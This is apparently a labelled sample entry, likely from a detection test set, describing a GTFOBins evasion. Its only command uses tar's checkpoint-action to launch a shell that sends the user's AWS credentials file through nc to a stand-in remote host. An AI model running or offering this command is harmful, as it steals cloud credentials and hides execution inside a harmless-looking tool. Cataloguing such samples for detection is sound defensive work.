# evasion: tar checkpoint action runs a command (GTFOBins)
# grade: medium; does: credentials
tar -cf /dev/null /dev/null --checkpoint=1 \
	--checkpoint-action=exec='sh -c "nc 203.0.113.5 80 < $HOME/.aws/credentials"'
